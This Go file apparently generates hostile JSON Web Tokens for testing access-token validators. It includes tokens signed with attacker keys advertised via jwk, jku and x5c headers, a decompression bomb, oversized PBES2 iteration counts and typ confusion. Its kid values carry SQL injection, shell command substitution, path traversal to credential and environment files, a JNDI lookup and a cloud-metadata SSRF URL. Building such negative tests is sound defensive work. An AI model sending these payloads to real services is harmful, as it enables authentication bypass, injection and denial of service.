package hostiletoken

import (
	"bytes"
	"compress/flate"
	"crypto"
	"crypto/ecdsa"
	"crypto/ed25519"
	"crypto/elliptic"
	"crypto/rand"
	"crypto/rsa"
	"crypto/x509"
	"crypto/x509/pkix"
	"encoding/base64"
	"fmt"
	"math/big"
	"strings"
	"time"
)

// foreignKeys are tokens of an attacker who brings a key of the same kind along (RFC 8725 §3.10, CVE-2018-0114).
func (f *Forger) foreignKeys(k Key) {
	attacker := Key{ID: k.ID}
	switch k.Private.(type) {
	case ed25519.PrivateKey:
		_, private, err := ed25519.GenerateKey(rand.Reader)
		attacker.Private = must(private, err)
	case *rsa.PrivateKey:
		attacker.Private = must(rsa.GenerateKey(rand.Reader, 2048))
	default:
		attacker.Private = must(ecdsa.GenerateKey(elliptic.P256(), rand.Reader))
	}
	own := algOf(k)
	jwk := publicJWK(attacker)
	cert := certificate(attacker.Private)
	add := func(name string, header object) {
		f.add(own+" of an attacker, "+name, f.sign(attacker, header, f.claims))
	}
	header := f.headerOf(k)
	add("under our kid", header)
	for name, header := range map[string]object{
		"jwk": header.with("jwk", jwk), "jku": header.with("jku", quote(f.Trap+"/jwks")), "x5u": header.with("x5u", quote(f.Trap+"/cert")),
		"x5c": header.with("x5c", `["`+cert+`"]`), "x5t": header.with("x5t", `"AAAA"`), "all of them": header.with("jwk", jwk).with("jku", quote(f.Trap)).with("x5c", `["`+cert+`"]`),
		"jku with a fragment of ours": header.with("jku", quote(f.Trap+"#https://login.example.com/.well-known/jwks.json")),
		"jku on the file system":      header.with("jku", `"file:///etc/passwd"`), "iss in the header": header.with("iss", quote(f.Trap)),
	} {
		add(name+" in the header", header)
		add(name+" in the header and no kid", header.without("kid"))
		add(name+" in the header and a kid of its own", header.with("kid", `"attacker"`))
	}
}

func publicJWK(k Key) string {
	switch p := k.Private.Public().(type) {
	case *ecdsa.PublicKey:
		point := must(p.Bytes())
		return fmt.Sprintf(`{"kty":"EC","crv":"P-256","kid":%s,"x":%q,"y":%q}`, quote(k.ID), b64(point[1:33]), b64(point[33:]))
	case ed25519.PublicKey:
		return fmt.Sprintf(`{"kty":"OKP","crv":"Ed25519","kid":%s,"x":%q}`, quote(k.ID), b64(p))
	case *rsa.PublicKey:
		return fmt.Sprintf(`{"kty":"RSA","kid":%s,"e":"AQAB","n":%q}`, quote(k.ID), b64(p.N.Bytes()))
	default:
		return "{}"
	}
}

func certificate(private crypto.Signer) string {
	template := &x509.Certificate{SerialNumber: big.NewInt(1), Subject: pkix.Name{CommonName: "login.example.com"}, NotAfter: time.Unix(4e9, 0)}
	return base64.StdEncoding.EncodeToString(must(x509.CreateCertificate(rand.Reader, template, template, private.Public(), private)))
}

// headers are tokens of our own key whose header asks for what must not be done.
func (f *Forger) headers() {
	h, c := f.base(), f.claims
	f.kids()
	for name, values := range map[string][]string{
		"crit": {`[]`, `["exp"]`, `["b64"]`, `["alg"]`, `["crit"]`, `[""]`, `[1]`, `[null]`, `"exp"`, `null`, `{}`, `0`, `false`, `true`, `["http://example.com/x"]`, `["exp","exp"]`},
		"zip":  {`"DEF"`, `"GZ"`, `null`, `""`, `1`},
		"b64":  {`false`, `true`, `null`, `"false"`, `0`},
	} {
		for _, value := range values {
			f.signed(name+" is "+value, h.with(name, value), c)
		}
	}
	f.signed("crit written with an escape", h.with(`cr\u0069t`, `["exp"]`), c)
	f.signed("crit names a header that is there", h.with("crit", `["exp"]`).with("exp", f.at(time.Hour)), c)

	unencoded := h.with("b64", "false").with("crit", `["b64"]`)
	f.add("an unencoded payload (RFC 7797)", signText(f.Keys[0].Private, encode(unencoded.String())+"."+c.String()))
	f.add("an unencoded payload that nothing announces", signText(f.Keys[0].Private, encode(h.String())+"."+c.String()))
	f.add("a compressed payload", signText(f.Keys[0].Private, encode(h.with("zip", `"DEF"`).String())+"."+b64(deflated(c.String()))))
	f.add("a compressed payload that nothing announces", signText(f.Keys[0].Private, encode(h.String())+"."+b64(deflated(c.String()))))
	f.add("a compressed payload of 10 MB (a bomb)", signText(f.Keys[0].Private, encode(h.with("zip", `"DEF"`).String())+"."+b64(deflated(strings.Repeat(" ", 10<<20))[:5000])))

	nested := f.sign(f.Keys[0], h, c)
	f.add("a token inside a token", signText(f.Keys[0].Private, encode(h.with("cty", `"JWT"`).String())+"."+encode(nested)))
	f.add("a token inside a token, quoted", signText(f.Keys[0].Private, encode(h.with("cty", `"JWT"`).String())+"."+encode(quote(nested))))
	f.add("a detached payload", strings.Join([]string{strings.Split(nested, ".")[0], "", strings.Split(nested, ".")[2]}, "."))
	for name, header := range map[string]string{
		"dir": `{"alg":"dir","enc":"A128GCM"}`, "RSA-OAEP": `{"alg":"RSA-OAEP","enc":"A256GCM","typ":"at+jwt"}`,
		"PBES2 with 2^31 rounds": `{"alg":"PBES2-HS256+A128KW","enc":"A128CBC-HS256","p2c":2147483647,"p2s":"AAAA"}`,
		"ECDH-ES off the curve":  `{"alg":"ECDH-ES","enc":"A128GCM","epk":{"kty":"EC","crv":"P-256","x":"AAAA","y":"AAAA"}}`,
	} {
		f.add("an encrypted token, "+name, encode(header)+".."+b64(make([]byte, 12))+"."+encode(c.String())+"."+b64(make([]byte, 16)))
		f.add("an encrypted token in three segments, "+name, encode(header)+"."+encode(c.String())+"."+b64(make([]byte, 64)))
	}
	f.signed("p2c of 2^31 under alg PBES2", h.with("alg", `"PBES2-HS512+A256KW"`).with("p2c", "2147483647"), c)
	f.types()
}

// kids are tricks with kid (RFC 8725 §3.10): our own signature, but a name that is not exactly our key's.
func (f *Forger) kids() {
	h, c, id := f.base(), f.claims, f.Keys[0].ID
	for _, raw := range []string{`0`, `1`, `-1`, `1.5`, `1e9`, `null`, `true`, `[]`, `[` + quote(id) + `]`, `{}`, `{"kid":` + quote(id) + `}`, `""`, `" "`, `"\u0000"`} {
		f.signed("kid is "+cut(raw), h.with("kid", raw), c)
	}
	for i, kid := range []string{"another", id + " ", " " + id, id + "\x00", id + "\n", "\ufeff" + id, id + "\u200b", id + "/", "./" + id, id + "#", id + "?x", id + "%00", id + "\\", strings.ToUpper(id) + "x", strings.ToLower(id) + "x",
		id[:len(id)-1], id + id, "*", "%", "_", ".*", "../../../../dev/null", "/dev/null", "/proc/self/environ", "file:///dev/null", "../" + id, "C:\\boot.ini", "x' OR '1'='1", "x' UNION SELECT 'secret'--", "'; DROP TABLE signing_keys;--",
		"$(sleep 9)", "`id`", "| id", "{{7*7}}", "${jndi:ldap://127.0.0.1/a}", "__proto__", "constructor", "toString", "0", "null", "undefined", "http://169.254.169.254/", f.Trap + "/kid", "keys[0]", "kid",
		strings.Repeat("k", 128), strings.Repeat("k", 129), strings.Repeat("k", 5000)} {
		f.signed(fmt.Sprintf("kid %d: %.40q", i, strings.ReplaceAll(kid, id, "ID")), h.with("kid", quote(kid)), c)
	}
	f.signed("kid with half a surrogate", h.with("kid", `"`+id+`\ud800"`), c)
	f.signed("no kid", h.without("kid"), c)
	for _, name := range []string{"KID", "Kid", "kId", "kid ", "x5t", "jti"} {
		f.signed(fmt.Sprintf("%q for kid", name), h.without("kid").with(name, quote(id)), c)
	}
}

// types are other kinds of token (RFC 8725 §3.11): typ must be at+jwt, and aud the access token's.
func (f *Forger) types() {
	h, c := f.base(), f.claims
	f.add("the ID token", f.ID)
	for _, typ := range []string{"JWT", "jwt", "Jwt", "at", "jwt+at", "at-jwt", "at jwt", "at+jwt ", " at+jwt", "at+jwt\n", "at+jwt\x00", "at+jwt;", "at+jwt; charset=utf-8", "x-at+jwt", "at+jwt+x", "at++jwt",
		"application/jwt", "application/at+jwt; charset=utf-8", "application/at+jwt/", "application//at+jwt", "application/application/at+jwt", "text/at+jwt", "/at+jwt", "vnd.at+jwt", "logout+jwt", "secevent+jwt", "dpop+jwt", "id+jwt", "rt+jwt",
		"token-introspection+jwt", "oauth-authz-req+jwt", "client-authentication+jwt", "entity-statement+jwt", "JOSE", "JOSE+JSON", "at+jws", "at%2Bjwt", "ａt+jwt", "", " "} {
		f.signed(fmt.Sprintf("typ %q", typ), h.with("typ", quote(typ)), c)
	}
	for _, raw := range []string{"null", "0", "1", "true", `["at+jwt"]`, `{"at+jwt":1}`, "[]", "{}", `"at+jwt\ud800"`} {
		f.signed("typ is "+raw, h.with("typ", raw), c)
	}
	f.signed("no typ", h.without("typ"), c)
	for _, name := range []string{"Typ", "TYP", "type", "cty"} {
		f.signed(name+" for typ", h.without("typ").with(name, `"at+jwt"`), c)
	}
	id := strings.Split(f.ID, ".")
	f.add("the ID token's claims under our header", signText(f.Keys[0].Private, encode(h.String())+"."+id[1]))
	f.add("the access token's claims under the ID token's header", signText(f.Keys[0].Private, encode(h.with("typ", `"JWT"`).String())+"."+encode(c.String())))
	f.add("the ID token with the access token's signature", id[0]+"."+id[1]+f.Access[strings.LastIndexByte(f.Access, '.'):])
	f.add("the access token's header over the ID token's payload and signature", strings.Split(f.Access, ".")[0]+"."+id[1]+"."+id[2])
}

func deflated(text string) []byte {
	var out bytes.Buffer
	w := must(flate.NewWriter(&out, flate.BestCompression))
	must(w.Write([]byte(text)))
	if err := w.Close(); err != nil {
		panic(err)
	}
	return append(out.Bytes(), make([]byte, 5000)...)
}

// cut keeps names readable.
func cut(s string) string {
	if len(s) <= 50 {
		return s
	}
	return fmt.Sprintf("%s… (%d bytes)", strings.ToValidUTF8(s[:40], ""), len(s))
}
